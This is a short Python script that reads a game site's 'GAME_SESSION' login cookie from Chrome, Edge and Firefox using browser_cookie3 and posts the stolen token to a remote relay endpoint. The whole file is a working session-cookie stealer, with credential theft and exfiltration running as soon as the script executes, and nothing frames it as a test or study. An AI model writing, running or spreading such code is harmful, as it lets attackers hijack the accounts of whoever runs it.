import browser_cookie3
import requests

REPORT_TO = "https://relay.example.invalid/api/msg"
BROWSERS = (browser_cookie3.chrome, browser_cookie3.edge, browser_cookie3.firefox)


def _session():
    # Tries every browser until one holds the game's login cookie.
    for browser in BROWSERS:
        try:
            for cookie in browser(domain_name="games.example"):
                if cookie.name == "GAME_SESSION":
                    return cookie.value
        except Exception:
            continue
    return None


token = _session()
if token:
    requests.post(REPORT_TO, data={"content": f"new session: {token}"})
